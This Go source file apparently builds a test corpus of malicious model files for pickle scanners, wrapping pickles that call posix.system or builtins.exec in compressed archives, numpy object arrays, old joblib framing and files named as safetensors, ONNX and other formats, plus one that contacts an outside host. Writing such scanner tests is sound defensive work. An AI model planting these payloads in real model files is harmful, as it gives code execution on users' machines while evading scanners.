package main

import (
	"encoding/binary"
	"fmt"
	"maps"
	"slices"
)

func sorted[V any](m map[string]V) []string { return slices.Sorted(maps.Keys(m)) }

// system is the plainest payload, as a pickle of protocol 2.
func system() []byte { return pickled(style{proto: 2}, fn("posix", "system", cmd)) }

// picklesIn puts pickles where their readers look for them: packed, in arrays, under other names.
func picklesIn(c *corpus) {
	for _, how := range []string{"zlib", "gzip", "bz2", "xz", "lzma", "lz4", "zstd"} {
		ending := map[string]string{"zlib": "z", "gzip": "gz", "bz2": "bz2", "xz": "xz", "lzma": "lzma", "lz4": "lz4", "zstd": "zst"}[how]
		c.hostile("pickle", "packed pickle", "joblib.load; pandas.read_pickle", "model.pkl."+ending, packed(how, []byte(nestedSystem)))
		c.hostile("pickle", "packed pickle", "joblib.load reads by content", "model.joblib", packed(how, []byte(nestedSystem)))
	}
	c.hostile("pickle", "packed twice", "modelaudit compressed scanner tests", "model.pkl.gz.gz", packed("gzip", packed("gzip", system())))
	old := append([]byte("ZF"), fmt.Sprintf("%#-19x", len(nestedSystem))...)
	c.hostile("pickle", "old joblib framing", "joblib.numpy_pickle_compat", "model.joblib", append(old, packed("zlib", []byte(nestedSystem))...))

	for _, version := range []byte{1, 2, 3} {
		c.hostile("other", "object array", "numpy documentation of allow_pickle", "array.npy", npy(version, "|O", "(1,)", system()))
	}
	c.hostile("other", "object array", "picklescan dns_exfiltration.npy", "array.npy", npy(1, "|O", "()", pickled(style{proto: 4}, fn("ssl", "get_server_certificate", tuple{"x.example.org", 443}))))
	c.hostile("other", "object array", "numpy documentation", "model.npz", zipped(entry{name: "w.npy", data: npy(1, "<f4", "(2,)", make([]byte, 8))}, entry{name: "o.npy", data: npy(1, "|O", "(1,)", system())}))
	c.hostile("other", "object array", "numpy documentation", "model.npz", zipped(entry{name: "o.npy", data: npy(1, "|O", "(1,)", system()), deflate: true}))
	c.hostile("other", "record with objects", "numpy documentation", "array.npy", npy(1, "[('a', '<f4'), ('b', 'O')]", "(1,)", system()))
	c.hostile("other", "second array of a file", "numpy.save onto an open file", "array.npy", append(npy(1, "<f4", "(1,)", make([]byte, 4)), npy(1, "|O", "(1,)", system())...))
	c.hostile("other", "pickle instead of an array", "numpy.load falls back to pickle", "array.npy", system())

	for _, name := range []string{"pytorch_model.bin", "model.safetensors", "model.onnx", "model.h5", "model.keras", "weights.npy", "model.pb", "model.gguf", "optimizer.pt", "training_args.bin", "scheduler.pt", "rng_state.pth", "model.ckpt", "vectorizer.pk", "tokenizer.model", "index.faiss.pkl", "model.cloudpickle", "model.dill", "params.pdparams", "opt.pdopt"} {
		c.hostile("pickle", "name of another format", "picklescan CVE-2025-10155: content decides", name, pickled(styles[len(name)%6], fn("builtins", "exec", code)))
	}
	joblibArray := "\x80\x04cjoblib.numpy_pickle\nNumpyArrayWrapper\n)\x81}(\x8c\x08subclasscnumpy\nndarray\n\x8c\x05shapeK\x02\x85\x8c\x05order\x8c\x01C\x8c\x05dtypecnumpy\ndtype\n\x8c\x02f4\x89\x88\x87R(K\x03\x8c\x01<NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00tb\x8c\x0aallow_mmap\x89ub\x00\x00\x80?\x00\x00\x80?"
	c.hostile("pickle", "after the bytes of an array", "joblib: arrays stand between opcodes", "model.joblib", []byte(joblibArray+"0cposix\nsystem\n\x8c\x04echo\x85R."))
	c.hostile("pickle", "object array of joblib", "joblib: object arrays are pickled again", "model.joblib", []byte("\x80\x04cjoblib.numpy_pickle\nNumpyArrayWrapper\n)\x81}(\x8c\x08subclasscnumpy\nndarray\n\x8c\x05shapeK\x01\x85\x8c\x05order\x8c\x01C\x8c\x05dtypecnumpy\ndtype\n\x8c\x02O8\x89\x88\x87R(K\x03\x8c\x01|NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK?tb\x8c\x0aallow_mmap\x89ub"+nestedSystem+"."))
}

// npy is an array file. descr is a dtype's text, quoted unless it is a list.
func npy(version byte, descr, shape string, data []byte) []byte {
	if descr[0] != '[' {
		descr = "'" + descr + "'"
	}
	head := fmt.Sprintf("{'descr': %s, 'fortran_order': False, 'shape': %s, }", descr, shape)
	fixed := 10
	if version > 1 {
		fixed = 12
	}
	for (fixed+len(head)+1)%64 != 0 {
		head += " "
	}
	head += "\n"
	out := []byte{0x93, 'N', 'U', 'M', 'P', 'Y', version, 0}
	if version > 1 {
		out = binary.LittleEndian.AppendUint32(out, uint32(len(head)))
	} else {
		out = binary.LittleEndian.AppendUint16(out, uint16(len(head)))
	}
	return append(append(out, head...), data...)
}
